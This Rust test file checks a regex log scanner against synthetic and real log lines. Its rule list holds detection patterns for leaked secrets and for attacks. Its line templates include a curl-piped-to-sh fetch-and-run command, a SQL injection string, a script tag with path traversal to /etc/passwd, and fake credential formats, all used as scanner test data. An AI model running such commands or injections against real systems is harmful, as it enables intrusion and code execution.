//! Every scanner on log lines, with rules of the kind that people write for them.
//!
//! One test generates its lines. The other reads rules and lines from the files that `DRAGNET_RULES`
//! (TOML with a `regex` in each `[[rules]]`) and `DRAGNET_LOGS` (a folder of text files) name, and can
//! take minutes.

use std::env;
use std::fs;
use std::path::Path;

use regex_syntax::hir::Hir;

use dragnet_testkit::{Comparison, Rng, Spec, not_tested, sample, say};

use super::files::{files_in, rules_of};

/// Rules that each match some generated line.
pub(crate) const RULES: [&str; 42] = [
    r"(?i)\b(?:error|fatal|critical)\b",
    r"WARN(?:ING)?",
    r"\b(?:\d{1,3}\.){3}\d{1,3}\b",
    r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}",
    r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}",
    r"\bAKIA[0-9A-Z]{16}\b",
    r"ghp_[0-9A-Za-z]{36}",
    r"xox[baprs]-[0-9]{10,13}-[0-9A-Za-z]{24}",
    r"-----BEGIN (?:RSA |EC )?PRIVATE KEY-----",
    r"eyJ[A-Za-z0-9_-]{10,}\.eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}",
    r#"(?i)(?:api|secret)[_-]?key["']?\s*[:=]\s*["']?([0-9a-z]{20,40})"#,
    r"(?i)password=[^&\s]+",
    r"\b[a-f0-9]{40}\b",
    r"[a-f0-9]{64}",
    r"\b[\w.+-]+@[\w-]+\.[\w.]+\b",
    r"https?://[^\s/]+(?:/[^\s?]*)?",
    r#""(?:GET|POST|PUT|DELETE) \S+ HTTP/1\.[01]" [45]\d\d"#,
    r"Failed password for (?:invalid user )?\w+ from",
    r"user=\w+",
    r"pid[=:]\s?\d+",
    r"took \d+(?:\.\d+)?ms$",
    r"(?i)timed? ?out after",
    r"Connection (?:reset|refused|closed)",
    r"at [\w$.]+\([\w]+\.java:\d+\)",
    r"java\.lang\.\w+Exception",
    r"SELECT .* FROM \w+",
    r"' OR '1'='1",
    r"<script[^>]*>",
    r"\.\./\.\./",
    r"/etc/(?:passwd|shadow)",
    r"\bcurl\b.*\|\s*(?:ba)?sh",
    r"0x[0-9a-f]{8,16}",
    r"\[\w+-\d+\]",
    r"disk /dev/sd[a-z]\d? (?:full|failing)",
    r"\w+: status (?:ok|bad)",
    r"\d+%",
    r"^$",
    r"\s+$",
    r"\t",
    r"[^\x00-\x7F]+",
    r"Mozilla/5\.0 \([^)]*\)",
    r"(?:4[0-9]{12}(?:[0-9]{3})?|5[1-5][0-9]{14})",
];

/// Templates of lines. `%` and a letter are replaced by the random text that [`random`] returns.
const LINES: [&str; 34] = [
    "%t INFO [worker-%d] request %u from %i took %d.%dms",
    "%t ERROR [worker-%d] java.lang.NullPointerException: null",
    "\tat com.example.app$Inner.run(App.java:%d)",
    "%i - - \"GET /index.html?user=%w HTTP/1.1\" 200 %d \"Mozilla/5.0 (X11; Linux)\"",
    "%i - - \"POST /login HTTP/1.0\" 401 %d",
    "sshd[%d]: Failed password for invalid user %w from %i port %d ssh2",
    "sshd[%d]: Failed password for %w from %i",
    "%t WARNING disk /dev/sda%d full: 9%d%",
    "%t WARN disk /dev/sdb failing",
    "aws_access_key_id = AKIA%A%A%A%A",
    "token ghp_%h%h%h%h%d%d%d%d",
    "slack xoxb-1234567890%d-%h%h%h",
    "-----BEGIN RSA PRIVATE KEY-----",
    "Authorization: Bearer eyJhbGciOiJIUzI1.eyJzdWIiOiIxMjM0.%h%h",
    "config: api_key = \"%h%h%h\"",
    "GET /?password=%w%d&x=1",
    "commit %h%h%h%h%h by %w@example.com",
    "sha256 %h%h%h%h%h%h%h%h  %w.tar.gz",
    "fetch https://%w.example.org/a/b?c=%d pid=%d",
    "request timed out after %ds, Connection reset by %i",
    "SELECT * FROM %w WHERE id = '%d' OR '1'='1'",
    "<script src=x>../../etc/passwd",
    "curl -s http://%i/%w.sh | sh",
    "fault at 0x%h%h in pid: %d",
    "probe: status ok %w",
    "",
    "   ",
    "naïve café 星星点灯 %w",
    "card 4111111111111%d%d%d or 5500000000000004",
    "%w %w %w %w %w %w %w %w",
    "%d%d%d%d%d%d %h %h",
    "errors: none, a fatality is no fatal error",
    "AKIA%w ghp_%w xoxb-%d eyJ%w",
    "\0\u{1}binary\u{7F}%w",
];

fn generated(lines: usize) -> Vec<u8> {
    let mut rng = Rng::new(2);
    let mut text = Vec::new();
    for _ in 0..lines {
        let mut rest = *rng.pick(&LINES);
        while let Some((head, tail)) = rest.split_once('%') {
            text.extend_from_slice(head.as_bytes());
            let kind = tail.chars().next().filter(|kind| "tduiwhA".contains(*kind));
            rest = &tail[usize::from(kind.is_some())..];
            text.extend(random(&mut rng, kind).into_bytes());
        }
        text.extend_from_slice(rest.as_bytes());
        if rng.below(40) == 0 {
            // Invalid UTF-8, and the first half of a Windows line end.
            text.extend_from_slice(b"\xFF\xC3\r");
        }
        text.push(b'\n');
    }
    text
}

/// Returns a random replacement for `%` and this letter: a time (`t`), a UUID (`u`), an IP address
/// (`i`), a word (`w`), eight (`h`) or four (`A`) hexadecimal digits, a digit (`d`), or just `%`.
fn random(rng: &mut Rng, kind: Option<char>) -> String {
    let n = rng.next();
    let (a, b, c) = (n % 10, n / 10 % 24, n / 240 % 60);
    match kind {
        Some('t') => format!("2026-{:02}-1{a}T{b:02}:{c:02}:{c:02}Z", a + 1),
        Some('u') => format!("{:08x}-{c:04x}-4a{b:02}-9b{c:02}-{:012x}", n as u32, n >> 16),
        Some('i') => format!("10.{a}.{b}.{c}"),
        Some('w') => (0..=a).map(|i| char::from(b'a' + (n >> (5 * i)) as u8 % 26)).collect(),
        Some('h') => format!("{:08x}", n as u32),
        Some('A') => format!("{:04X}", n as u16),
        Some(_) => a.to_string(),
        None => "%".to_owned(),
    }
}

#[test]
fn generated_logs_have_the_oracles_matches() {
    let specs: Vec<Spec> =
        RULES.iter().flat_map(|rule| ["-u", ""].map(|flags| Spec::new(*rule, flags))).collect();
    let matches = Comparison::new(&specs).lines(&generated(3000)).unwrap();
    for (number, spec) in specs.iter().enumerate() {
        assert!(matches.iter().any(|m| m.pattern() == number), "{spec:?} matches no line");
    }
}

#[test]
fn real_logs_have_the_oracles_matches() {
    let (Some(rules), Some(logs)) = (env::var_os("DRAGNET_RULES"), env::var_os("DRAGNET_LOGS"))
    else {
        not_tested("real-data", "DRAGNET_RULES and DRAGNET_LOGS are not set");
        return;
    };
    let specs = rules_of(Path::new(&rules));
    let hirs: Vec<Hir> = specs.iter().map(Spec::hir).collect();
    let mut comparison = Comparison::new(&specs);
    let mut rng = Rng::new(3);
    let mut seen = vec![false; specs.len()];
    for path in files_in(Path::new(&logs)) {
        let text = fs::read(&path).unwrap();
        let mut lines: Vec<Vec<u8>> =
            text.split_inclusive(|&byte| byte == b'\n').map(<[u8]>::to_vec).collect();
        lines.push(b"\n".to_vec());
        // Rules for secrets and attacks match nothing in most texts, so a match of each is inserted.
        for hir in &hirs {
            let at = rng.below(lines.len());
            plant(hir, &mut rng, &mut lines[at]);
        }
        // In parts, so that a difference is reported before the whole file was searched.
        for part in lines.chunks(500) {
            match comparison.lines(&part.concat()) {
                Ok(matches) => matches.iter().for_each(|m| seen[m.pattern()] = true),
                Err(difference) => panic!("{}: {difference}", path.display()),
            }
        }
        say(&format!("{}: {} lines", path.display(), lines.len()));
    }
    let matched = seen.iter().filter(|seen| **seen).count();
    say(&format!("{matched} of {} rules match somewhere", specs.len()));
    assert!(matched * 2 > specs.len(), "most rules match nowhere");
}

/// Inserts a text that a rule is likely to match into a line, with a space on either side.
fn plant(hir: &Hir, rng: &mut Rng, line: &mut Vec<u8>) {
    let mut text = b" ".to_vec();
    sample(hir, rng, &mut text);
    text.push(b' ');
    text.retain(|&byte| byte != b'\n');
    let at = rng.below(line.len());
    line.splice(at..at, text);
}
